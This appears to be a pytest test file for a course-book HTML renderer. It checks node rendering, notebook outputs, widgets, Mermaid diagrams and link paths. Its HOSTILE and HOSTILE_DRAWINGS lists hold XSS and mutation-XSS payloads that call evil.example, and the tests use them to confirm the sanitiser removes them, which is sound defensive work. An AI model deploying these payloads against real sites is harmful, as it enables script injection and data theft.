"""The renderer, node by node: each kind of node of the engine becomes HTML that is safe and complete."""

from __future__ import annotations

import html
import html.parser
import json
import re
import tomllib
from concurrent.futures import ThreadPoolExecutor
from xml.etree import ElementTree

import pytest
from campus_tree import REPOSITORY
from hypothesis import given
from hypothesis import strategies as st
from tpc_book.base.links import Links
from tpc_book.base.words import words
from tpc_book.downloads.xhtml import as_xhtml
from tpc_book.render import diagram, nodes
from tpc_book.render.diagram import DiagramError, draw
from tpc_book.render.drawn import words_of
from tpc_book.render.nodes import references
from tpc_book.render.render import RENDERERS, NodeError, Renderer, UnknownNode
from tpc_book.render.sanitise import clean, clean_drawing
from tpc_courses.base.places import Places
from tpc_courses.base.tokens import Colour, read_tokens

WORDS = words(REPOSITORY / "book" / "theme", "en")


def renderer(page: dict | None = None, slug: str = "a.b") -> Renderer:
    return Renderer(page or {}, Links(slug), WORDS)


def render(node: str, page: dict | None = None, **fields) -> str:
    return renderer(page).render({"type": node, **fields})


def text(words: str = "a < b") -> dict:
    return {"type": "text", "value": words}


def children(*items: dict) -> dict:
    return {"children": list(items) or [text()]}


HEAD = {"type": "tableCell", "header": True, "children": [{"type": "text", "value": "x"}]}
TITLE = {"type": "admonitionTitle", "children": [text("Title")]}
CITED = {"references": {"cite": {"data": {"x2020": {"html": "X <i>(2020)</i><script>1</script>"}}}}}
FIGURE = """export default {
  render({ model, el }) {
    const title = document.createElement("p");
    title.setAttribute("class", "figure-title");
    title.textContent = `n is ${model.get("n")}`;
    el.append(title, document.createElement("table"));
  },
};"""
SAVED = {"state": {"m1": {"state": {"_esm": FIGURE, "n": 7, "_view_name": "x"}}, "m2": {"state": {}}}}

# kind, fields, what its HTML must hold
CASES = [
    ("paragraph", children(), "<p>a &lt; b</p>"),
    ("emphasis", children(), "<em>a &lt; b</em>"),
    ("strong", children(), "<strong>"),
    ("subscript", children(), "<sub>"),
    ("superscript", children(), "<sup>"),
    ("delete", children(), "<del>"),
    ("underline", children(), "<u>"),
    ("keyboard", children(), "<kbd>"),
    ("smallcaps", children(), 'class="smallcaps"'),
    ("span", {"class": "x", **children()}, '<span class="x">'),
    ("inlineCode", {"value": "a<b"}, "<code>a&lt;b</code>"),
    ("inlineExpression", {"value": "n", "children": []}, "<code>n</code>"),
    ("inlineExpression", {"value": "n", **children(text("4"))}, "4"),
    ("break", {}, "<br>"),
    ("abbreviation", {"title": 'a "b"', **children()}, 'title="a &quot;b&quot;"'),
    ("link", {"url": "/c/d", **children()}, 'href="../../c/d/"'),
    ("link", {"url": "https://x.org", "children": []}, ">x.org</a>"),
    ("link", {"url": "/f-0123.py", "static": True, **children()}, "download"),
    ("inlineMath", {"value": "x", "html": "<span>x</span>"}, "<span>x</span>"),
    ("chemicalFormula", {"value": "H2SO4"}, "H<sub>2</sub>SO<sub>4</sub>"),
    ("si", {"value": "4 km", "number": "4", "alt": "kilo meter"}, "4 kilo meter"),
    ("html", {"value": "<b>x</b><script>1</script>"}, "<b>x</b>"),
    ("raw", {"lang": "html", "value": "<b>x</b>"}, "<b>x</b>"),
    ("mystRole", children(), "a &lt; b"),
    ("mystDirective", children(), "a &lt; b"),
    ("root", children(), "a &lt; b"),
    ("include", children(), "a &lt; b"),
    ("embed", children({"type": "heading", "html_id": "h", "depth": 2, **children()}), "<h2>"),
    ("block", children(), "a &lt; b"),
    ("block", {"class": "wide", **children()}, '<div class="wide">'),
    ("div", {"class": "wide", **children()}, '<div class="wide">'),
    ("heading", {"depth": 1, "html_id": "h", **children()}, '<h2 id="h">'),
    ("heading", {"depth": 3, "enumerator": "2.1", **children()}, "2.1"),
    ("thematicBreak", {}, "<hr>"),
    ("blockquote", children(), "<blockquote>"),
    ("list", {"ordered": True, "start": 5, **children()}, '<ol start="5">'),
    ("list", children(), "<ul>"),
    ("listItem", children(), "<li>"),
    ("listItem", {"checked": True, **children()}, 'aria-label="done"'),
    ("definitionList", children(), "<dl>"),
    ("definitionTerm", {"html_id": "term-x", **children()}, '<dt id="term-x">'),
    ("definitionDescription", children(), "<dd>"),
    ("glossary", children(), 'class="glossary"'),
    ("aside", {"kind": "margin", **children(TITLE, text())}, 'class="aside margin"'),
    ("toc", children(), "a &lt; b"),
    ("admonition", {"kind": "warning", **children(TITLE, text())}, 'class="box warning"'),
    ("admonition", {"kind": "tip", "class": "dropdown", **children(TITLE, text())}, "<summary>Title</summary>"),
    ("admonitionTitle", children(), "a &lt; b"),
    ("exercise", {"enumerator": "3", "label": "e", "html_id": "e", **children(TITLE, text())}, "Exercise 3"),
    ("proof", {"kind": "lemma", **children(text())}, "<span>Lemma</span>"),
    ("solution", children(TITLE, text()), "<details"),
    ("details", {"open": True, **children()}, '<details class="box" open>'),
    ("summary", children(), "<summary>"),
    ("grid", {"columns": [1, 2], **children()}, "columns-2"),
    ("card", {"url": "/c", **children({"type": "cardTitle", **children()})}, 'href="../../c/"'),
    ("card", children(), '<div class="card">'),
    ("cardTitle", children(), "card-title"),
    ("header", children(), "card-header"),
    ("footer", children(), "card-footer"),
    ("tabSet", children(), 'class="tabs"'),
    ("tabItem", {"title": "A & B", "sync": "a", **children()}, "A &amp; B"),
    ("table", children({"type": "tableRow", **children(HEAD)}), "<thead>"),
    ("tableRow", children({"type": "tableCell", **children()}), "<tr><td>"),
    ("tableCell", {"header": True, "align": "right", "colspan": 2, **children()}, 'colspan="2"'),
    ("container", {"kind": "figure", "html_id": "f", **children()}, '<figure class="figure" id="f">'),
    ("figure", children(), "<figure>"),
    ("caption", children(), "<figcaption>"),
    ("legend", children(), 'class="legend"'),
    ("captionNumber", children(), "<strong"),
    ("image", {"url": "/p-0123.png", "alt": 'a "b"', "width": "50%"}, 'alt="a &quot;b&quot;"'),
    ("image", {"url": "/film.mp4", "alt": "film"}, "<video controls"),
    ("iframe", {"src": "https://x.org/y"}, '<a href="https://x.org/y">'),
    ("iframe", {"src": "/lite/", "title": "T"}, "<iframe"),
    ("mermaid", {"value": "flowchart LR\nA-->B"}, "<svg"),
    ("math", {"value": "x", "html": "<b>x</b>", "enumerator": "4", "html_id": "eq"}, "(4)"),
    ("mathGroup", children(), "a &lt; b"),
    ("code", {"value": "a < b", "lang": "nonsense"}, "a &lt; b"),
    ("myst", {"value": "*a* < b"}, "*a*</span> &lt; b"),
    ("code", {"value": "x = 1\ny", "lang": "python", "showLineNumbers": True, "emphasizeLines": [2]}, "line marked"),
    ("code", {"value": "x", "visibility": "hide"}, '<details class="box folded">'),
    ("outputs", children(), 'class="outputs"'),
    ("crossReference", {"identifier": "eq", "html_id": "eq", **children()}, 'href="#eq"'),
    ("crossReference", {"identifier": "t", "url": "/c", "remote": True, **children()}, 'href="../../c/#t"'),
    ("citeGroup", {"kind": "parenthetical", **children(text("X"), text("Y"))}, "(X; Y)"),
    ("cite", {"label": "x2020", **children()}, 'href="#cite-x2020"'),
    ("footnoteReference", {"identifier": "1", "enumerator": "1"}, 'href="#fn-1"'),
]  # fmt: skip
# These show nothing where they stand.
SILENT = ["comment", "mystTarget", "indexEntry", "bibliography", "footnoteDefinition"]
# These have tests of their own below.
OWN_TESTS = {"text", "output", "anywidget"}


@pytest.mark.parametrize(
    ("kind", "fields", "expected"), CASES, ids=lambda value: value if isinstance(value, str) else ""
)
def test_a_node_becomes_its_element(kind, fields, expected):
    result = render(kind, CITED, **fields)
    assert expected in result
    assert "<script" not in result
    assert balanced(result)


@pytest.mark.parametrize("kind", SILENT)
def test_a_silent_node_shows_nothing(kind):
    assert render(kind, identifier="1", value="x", children=[text()]) == ""


def test_every_renderer_has_a_case():
    assert set(RENDERERS) == {kind for kind, _, _ in CASES} | set(SILENT) | OWN_TESTS


def test_an_unknown_node_is_an_error_with_its_place():
    with pytest.raises(UnknownNode, match=r"line 3: no renderer .*'hologram'"):
        render("hologram", position={"start": {"line": 3}})


@given(st.text())
def test_text_never_becomes_markup(value):
    read: list[str] = []
    parser = html.parser.HTMLParser(convert_charrefs=True)
    parser.handle_data = read.append
    parser.handle_starttag = lambda tag, attrs: pytest.fail(f"<{tag}> from text")
    parser.feed(render("text", value=value))
    parser.close()
    assert "".join(read) == value


def test_links_do_not_stand_inside_links():
    inner = {"type": "crossReference", "identifier": "x", "children": [text("word")]}
    assert render("link", url="/c", children=[inner]).count("<a") == 1
    folded = render("solution", children=[{"type": "admonitionTitle", "children": [inner]}, text()])
    assert "<a" not in folded.split("</summary>")[0]


def test_works_and_footnotes_stand_at_the_foot():
    page = renderer(CITED)
    page.render({"type": "cite", "label": "x2020", "children": [text("X")]})
    page.render({"type": "footnoteReference", "identifier": "n", "enumerator": "1"})
    page.render(
        {"type": "footnoteDefinition", "identifier": "n", "enumerator": "1", "children": [text("Note")]}
    )
    foot = references.foot(page)
    assert '<li id="cite-x2020">X <i>(2020)</i></li>' in foot
    assert 'id="fn-n"' in foot
    assert 'href="#ref-n"' in foot


def test_a_doi_outside_the_bibliography_is_a_plain_link():
    assert 'href="https://doi.org/10.1/x"' in render("cite", label="https://doi.org/10.1/x", children=[])


class OneCard:
    def card(self, url: str, target: str) -> str:
        return f"<p>What {target} at {url} means</p>"


def test_a_reference_to_another_page_carries_a_card():
    page = Renderer({}, Links("a"), WORDS, OneCard())
    node = {
        "type": "crossReference",
        "identifier": "t",
        "html_id": "t",
        "url": "/c",
        "remote": True,
        **children(),
    }
    assert 'data-card="' in page.render(node)
    assert list(page.cards.values()) == ["<p>What t at /c means</p>"]


# Outputs of notebooks


def output(bundle: dict | None = None, page: dict | None = None, **data) -> str:
    return render("output", page, jupyter_data={"data": bundle or {}, **data})


def test_outputs_take_the_richest_safe_form():
    assert "<img" in output({"image/png": {"path": "/x.png"}, "text/plain": {"content": "x"}})
    assert "<img" in output({"image/svg+xml": {"path": "/x.svg"}})
    assert "<table>" in output(
        {"text/markdown": {"content": "|a|\n|-|\n|1|"}, "text/plain": {"content": "x"}}
    )
    assert "x &lt; 1" in output({"text/plain": {"content": "x < 1"}})
    assert "<msup>" in output({"text/latex": {"content": "$x^2$"}})
    assert "stderr" in output(name="stderr", text="careful")
    assert output() == ""


def test_outputs_that_the_engine_moved_to_files_are_shown_whole():
    page = {"files": {"/a.html": "<p>row 3000</p>", "/b.txt": "line\n" * 3000}}
    assert "row 3000" in output({"text/html": {"path": "/a.html", "hash": "a"}}, page)
    assert output(page=page, name="stdout", text="line\nl...", path="/b.txt").count("line") == 3000


def test_an_error_shows_its_traceback_in_colours():
    shown = output(output_type="error", ename="E", evalue="v", traceback=["\x1b[31mE\x1b[0m: v"])
    assert '<span class="ansi-red">E</span>: v' in shown
    assert "\x1b" not in shown


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="da&#x0a;ta:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="/x" ping="https://evil.example/ping" onclick="alert(1)">x</a>',
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><foreignObject><body onload="alert(1)"></body></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA#x"/></svg>',
    '<svg><image href="https://evil.example/p.png"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><filter id="f"><feImage href="https://evil.example/a.svg"/></filter></svg>',
    '<svg><style>*{background:url(https://evil.example/x)}</style></svg>',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="\\\\evil.example\\pixel.png">',
    '<img src="/\\evil.example/pixel.png">',
    '<img srcset="https://evil.example/a.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="/hub/logout">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
    '<table background="https://evil.example/p.png"><tr><td>x</td></tr></table>',
    '<p style="background:url(https://evil.example/p)">x</p>',
    '<p style="background:u\\72l(https://evil.example/p)">x</p>',
    '<p style="position:fixed;inset:0;color:red">x</p>',
    '<p style="margin:-9999px">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<form action="https://evil.example"><input name=password autofocus onfocus="alert(1)"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<details ontoggle="alert(1)" open>x</details>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<rect fill="url(https://evil.example/x.svg#a)"></rect>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
]  # fmt: skip
ACTIVE = {"script", "iframe", "form", "input", "button", "meta", "base", "link", "style", "object", "embed"}
ACTIVE |= {"foreignobject", "use", "image", "animate", "set", "feimage", "video", "math", "template"}
FETCHING = {
    "src",
    "srcset",
    "poster",
    "background",
    "data",
    "ping",
    "action",
    "formaction",
    "srcdoc",
    "content",
}


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/markdown"])
def test_hostile_output_is_cleaned(hostile, kind):
    """What a browser would read of the page holds no element that acts and no attribute that runs or fetches."""
    faults: list[str] = []

    def look(tag: str, attributes: list[tuple[str, str | None]]) -> None:
        faults.extend([tag] if tag in ACTIVE else [])
        for name, value in attributes:
            bare = re.sub(r"[\x00-\x20]", "", value or "").lower()
            runs = name.startswith("on") or bare.startswith(("javascript:", "vbscript:", "data:text"))
            moves = name == "style" and re.search(r"position|url|expression|:-|\\", bare)
            fetches = name in FETCHING or ("url(" in bare and "url(#" not in bare)
            faults.extend([f"{tag} {name}={value}"] if runs or moves or fetches else [])

    parser = html.parser.HTMLParser()
    parser.handle_starttag = look
    shown = output({kind: {"content": f"{hostile}\n\n<b>kept</b>"}})
    parser.feed(shown)
    assert faults == []
    unfinished = hostile.startswith("<svg></p><style>")  # the rest stands within its style
    assert "<b>kept</b>" in shown or unfinished


DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</svg>'
HOSTILE_DRAWINGS = [
    "<script>alert(1)</script>",
    '<g onload="alert(1)"/>',
    '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<a href=" java&#x0a;script:alert(1)"><text>x</text></a>',
    '<use xlink:href="https://evil.example/x.svg#a"/>',
    '<use href="data:image/svg+xml;base64,AAAA#x"/>',
    '<image href="https://evil.example/p.png"/>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://evil.example'/>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<rect style="fill:url(https://evil.example/x.svg#a)"/>',
    '<rect style="fill:u\\72l(https://evil.example/x.svg#a)"/>',
]


@pytest.mark.parametrize("hostile", HOSTILE_DRAWINGS)
def test_a_drawing_in_a_file_of_its_own_is_cleaned(hostile):
    kept = '<defs><path id="glyph" d="M0 0"/><style>*{stroke-linejoin: round}</style></defs><use xlink:href="#glyph"/>'
    shown = clean_drawing(DRAWING % (kept + hostile))
    assert re.search("alert|evil|script|onload|AAAA|body", shown) is None
    assert 'xlink:href="#glyph"' in shown
    assert "stroke-linejoin: round" in shown


@pytest.mark.parametrize(
    "text",
    ["<svg", DRAWING.replace("svg", "html") % "", f'<!DOCTYPE svg [<!ENTITY a "b">]>{DRAWING % "&a;"}'],
)
def test_what_is_no_drawing_becomes_an_empty_one(text):
    assert clean_drawing(text) == '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'


def test_a_picture_is_described_by_the_notebook_or_by_the_code_that_drew_it():
    page = renderer()
    picture = {"type": "output", "jupyter_data": {"data": {"image/png": {"path": "/x.png"}}}}
    assert 'alt="Figure drawn by the code above"' in page.render(picture)
    page.render({"type": "code", "executable": True, "value": 'ax.set(title="Loss <1", xlabel=f"N of {n}")'})
    assert 'alt="Figure drawn by the code above: Loss &lt;1. Across: N of …"' in page.render(picture)
    html = {"data": {"text/html": '<img src="data:image/png;base64,AA"> <img alt="y" title="a>b">'}}
    shown = page.render({"type": "output", "jupyter_data": html})
    assert shown.count("alt=") == 2
    assert '<img alt="Figure drawn by the code above: Loss &lt;1.' in shown
    picture["jupyter_data"]["metadata"] = {"image/png": {"alt": "A falling line"}}
    assert 'alt="A falling line"' in page.render(picture)


@pytest.mark.parametrize(
    ("code", "said"),
    [
        ("plt.title('A'); plt.xlabel('x'); plt.ylabel('y')", "A. Across: x. Up: y"),
        ("a.set_title('A.')\nb.set_title('$B$')\na.set_title('A.')", "A, B"),
        ("ax.set(yscale='log')", ""),
        ("%matplotlib inline", ""),
        ("print(title)", ""),
    ],
)
def test_labels_are_read_off_the_code(code, said):
    assert words_of(code) == said


def test_an_output_is_no_part_of_the_page_around_it():
    shown = clean('<svg id="models" class="figure-live toc curve"><rect id="a" fill="url(#a)"></rect></svg>')
    assert 'id="output-models"' in shown
    assert 'class="curve"' in shown
    assert 'id="output-a" fill="url(#output-a)"' in shown
    assert clean('<p role="dialog" tabindex="5" id="search">x</p>') == "<p>x</p>"


def test_a_picture_within_html_is_kept():
    assert (
        clean('<img src="data:image/png;base64,AAAA" alt="x">')
        == '<img src="data:image/png;base64,AAAA" alt="x">'
    )


def test_what_pandas_and_our_checks_put_out_survives():
    table = '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th>a</th></tr></thead></table>'
    assert "text-align:right" in clean(table).replace(" ", "")
    assert "border-left" in clean(
        '<p role="status" style="border-left:4px solid var(--good, #1a7f37)">right</p>'
    )
    assert '<svg viewBox="0 0 1 1"><path d="M0 0"></path></svg>' in clean(
        '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>'
    )


def view(model: str) -> dict:
    return {"application/vnd.jupyter.widget-view+json": {"content": json.dumps({"model_id": model})}}


def test_a_live_figure_carries_module_state_and_a_drawing():
    page = renderer({"widgets": SAVED})
    shown = page.render({"type": "output", "jupyter_data": {"data": view("m1")}})
    assert "n is 7</p>" in shown, "the figure is drawn at build time"
    assert page.models["m1"]["state"] == {"n": 7}
    assert list(page.modules.values()) == [FIGURE]


def test_a_widget_that_needs_a_kernel_says_where_to_open_it():
    page = {"widgets": SAVED, "open_url": "http://campus.test/open/x"}
    for model in ("m2", "unknown"):
        shown = output(view(model), page)
        assert "needs Python" in shown
        assert 'href="http://campus.test/open/x"' in shown


def test_a_figure_that_cannot_be_drawn_stays_a_place():
    broken = {
        "state": {"m": {"state": {"_esm": "export default { render() { document.querySelector('x').y } }"}}}
    }
    shown = output(view("m"), {"widgets": broken})
    assert 'data-model="m"' in shown
    assert "A figure stands here on the web page when scripts are allowed" in shown


def test_the_anywidget_directive_uses_its_module():
    page = renderer({"files": {"/f-1.mjs": FIGURE}})
    assert "n is 9</p>" in page.render({"type": "anywidget", "esm": "/f-1.mjs", "model": {"n": 9}, "id": "w"})


# Diagrams


DRAWN = tomllib.loads((REPOSITORY / "tests" / "support" / "diagrams.toml").read_text())["diagram"]


@pytest.mark.parametrize("diagram", DRAWN, ids=[each["source"].split()[0] for each in DRAWN])
def test_every_common_kind_of_diagram_is_drawn_and_told_in_words(diagram):
    drawn = draw(diagram["source"])
    assert balanced(drawn)
    label = re.search(r'role="img" aria-label="([^"]*)"', drawn)[1]
    assert label.startswith("Diagram. ")
    assert diagram["told"] in label
    assert not re.search(
        r"<(?:script|foreignObject|style|a|image)\b|\son\w+=|https?://(?!www\.w3\.org)", drawn
    )
    assert "url(" not in re.sub(r"url\(#diagram-[\w.-]+\)", "", drawn)
    assert set(re.findall(r"url\(#([\w.-]+)\)", drawn)) == set(re.findall(r' id="([^"]+)"', drawn))
    # Each colour has one for the dark page.
    assert "fill:light-dark(" in drawn or "stroke:light-dark(" in drawn


def test_two_diagrams_of_a_page_and_one_in_a_card_share_no_name():
    page, card = renderer({}), renderer({})
    card.inside_link = True
    node = {"type": "mermaid", "value": "flowchart LR\nA-->B"}
    names = [set(re.findall(r' id="([^"]+)"', each.render(node))) for each in (page, page, card)]
    assert all(names)
    assert len(set.union(*names)) == sum(map(len, names))


def test_a_page_of_many_threads_draws_each_diagram_once_and_its_own(monkeypatch):
    diagram._drawn.cache_clear()
    monkeypatch.setattr(diagram, "_running", {})
    started, start = [], diagram._started
    monkeypatch.setattr(diagram, "_started", lambda modules: started.append(1) or start(modules))
    with ThreadPoolExecutor(6) as pool:
        drawn = list(pool.map(lambda number: draw(f"flowchart LR\nn{number}[Box {number}]-->B"), range(6)))
    assert len(started) == 1
    assert ["".join(re.findall(r"(Box \d) to B", each)) for each in drawn] == [f"Box {n}" for n in range(6)]


def test_a_drawing_is_kept_by_its_source(tmp_path, monkeypatch):
    places = Places(REPOSITORY, tmp_path)
    first = draw("flowchart LR\nA-->kept", "one", diagram.drawings(places))
    diagram._drawn.cache_clear()
    monkeypatch.setattr(diagram, "_answer", lambda modules, source: {"error": "not asked"})
    assert draw("flowchart LR\nA-->kept", "two", diagram.drawings(places)) == first.replace("one-", "two-")
    with pytest.raises(DiagramError, match="not asked"):
        draw("flowchart LR\nA-->other", "two", diagram.drawings(places))


def test_a_source_is_drawn_the_same_way_each_time():
    chart = "gitGraph\n  commit\n  branch b\n  commit"
    first = draw(chart)
    diagram._drawn.cache_clear()
    draw('pie\n  "a": 1')
    assert draw(chart) == first


def test_what_is_missing_on_the_machine_is_no_fault_of_the_diagram(tmp_path, monkeypatch):
    diagram._drawn.cache_clear()
    monkeypatch.setenv("CAMPUS_ROOT", str(tmp_path))
    node = {"type": "mermaid", "value": "flowchart LR\nA-->B", "position": {"start": {"line": 7}}}
    with pytest.raises(NodeError, match="npm ci") as caught:
        renderer({}).render(node)
    assert caught.value.line == 7


def test_a_pie_tells_its_slices_apart_by_letters_and_by_colours_of_both_schemes():
    sizes = {"Read": 40, "Train": 30, "Wait": 15, "Check": 10, "Rest": 5}
    drawn = draw("pie title Time\n" + "\n".join(f'"{name}": {size}' for name, size in sizes.items()))
    texts = re.findall(r"<text[^>]*>([^<]+)</text>", drawn)
    for letter, (name, size) in zip("ABCDE", sizes.items(), strict=True):
        assert letter in texts
        assert f"{letter}  {name} {size}%" in texts
    slices = re.findall(
        r'<path d="[^"]*A[^"]*" fill="[^"]*" style="[^"]*fill:light-dark\((#\w+), (#\w+)\)', drawn
    )
    assert len(slices) == len(sizes)
    assert all(len(set(colours)) == len(sizes) for colours in zip(*slices, strict=True))
    assert {Colour(*pair) for pair in slices} <= set(read_tokens().values())


@pytest.mark.parametrize(
    ("colour", "shown"),
    [("red", "ff0000"), ("#f96", "ff9966"), ("rebeccapurple", "663399"), ("#ff000080", "ff000080")],
)
def test_a_colour_of_the_author_has_one_for_the_dark_page(colour, shown):
    drawn = draw(f"flowchart LR\nA:::hot-->B\nclassDef hot fill:{colour}")
    light, dark = re.search(rf"fill:light-dark\((#{shown}), (#\w+)\)", drawn).groups()
    assert light != dark


def test_a_box_holds_all_lines_of_its_label():
    def height(label):
        return float(re.search(r'<rect[^>]*height="([\d.]+)"', draw(f'flowchart LR\nA["{label}"]'))[1])

    assert height("one<br/>two<br/>three") - height("one") >= 2 * 15


@pytest.mark.parametrize(
    "label",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "x</text><script>1</script>",
        "javascript:1",
    ],
)
def test_a_label_runs_nothing(label):
    drawn = draw(f'flowchart LR\n A["{label}"] --> B\n click A "javascript:alert(1)"\n click B call run()')
    assert balanced(drawn)
    assert not re.search(r"<(?:script|img|a)\b|onerror=\S", re.sub(r">[^<]*<", "><", drawn))


def test_dark_colours_stand_out_as_the_light_ones_do():
    drawn = draw("flowchart LR\nA:::hot-->B\nclassDef hot fill:#fed,stroke:#321")
    pairs = dict(re.findall(r"light-dark\(#(\w{6}), #(\w{6})\)", drawn))
    assert {"ffeedd", "332211"} <= set(pairs)
    for pair in pairs.items():
        brightness = [sum(bytes.fromhex(each)) / 765 for each in pair]
        assert abs(1 - brightness[0] - brightness[1]) < 0.2


def test_the_e_book_finds_the_heads_of_arrows():
    xhtml = as_xhtml(draw("flowchart LR\nA-->B"), prefix="p--")
    assert set(re.findall(r"url\(#([\w.-]+)\)", xhtml)) == set(re.findall(r' id="([^"]+)"', xhtml)) != set()
    ElementTree.fromstring(xhtml)


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("mindmap\n  root", "that begin with `mindmap`"),
        ("", "that begin with ``"),
        ("flowchart LR\n  A[One)", "cannot be read at `A[One)`"),
        ("flowchart LR\n  %% told\n  A --> --> B", "cannot be read at `A --> --> B`"),
        ("sequenceDiagram\n  A-->>", "cannot be read at `A-->>`"),
        ("flowchart LR\n  A [text] --> B", "cannot be read at `A [text] --> B`"),
        ("architecture-beta\n  group api(cloud)[API]", "that begin with `architecture-beta`"),
    ],
)
def test_what_is_not_drawn_is_shown_as_its_source_with_the_reason(source, reason):
    with pytest.raises(DiagramError, match=re.escape(reason)):
        draw(source)
    page = renderer({}).render({"type": "mermaid", "value": source})
    assert WORDS["diagram_undrawn"] in page
    assert f"<code>{html.escape(source)}</code>" in page
    assert reason in html.unescape(page)
    assert draw("flowchart LR\nA-->B")  # and the next is drawn


# Addresses


@pytest.mark.parametrize(
    ("slug", "url", "served", "on_disk"),
    [
        ("", "/a/b", "a/b/", "a/b/index.html"),
        ("a.b", "/", "../../", "../../index.html"),
        ("a.b", "/c#d", "../../c/#d", "../../c/index.html#d"),
        (
            "a",
            "/p-0123456789abcdef0123456789abcdef.png",
            "../build/p-0123456789abcdef0123456789abcdef.png",
            None,
        ),
        ("a", "/events-0123456789abcdef0123456789abcdef.ics", "../events.ics", None),
        ("a", "https://x.org/y", "https://x.org/y", None),
        ("a", "mailto:x@y.z", "mailto:x@y.z", None),
        ("a", "#here", "#here", None),
    ],
)
def test_addresses_are_relative(slug, url, served, on_disk):
    assert Links(slug).to(url) == served
    assert Links(slug, index_files=True).to(url) == (on_disk or served)


def balanced(markup: str) -> bool:
    """Whether every element that is opened is closed, in order."""
    void, open_tags = {"img", "br", "hr", "input"}, []
    parser = html.parser.HTMLParser()
    parser.handle_starttag = lambda tag, attrs: None if tag in void else open_tags.append(tag)
    parser.handle_startendtag = lambda tag, attrs: None
    parser.handle_endtag = lambda tag: (
        open_tags.pop() if open_tags and open_tags[-1] == tag else open_tags.append(f"/{tag}")
    )
    parser.feed(markup)
    return not open_tags


assert nodes.__all__  # importing them registers the renderers
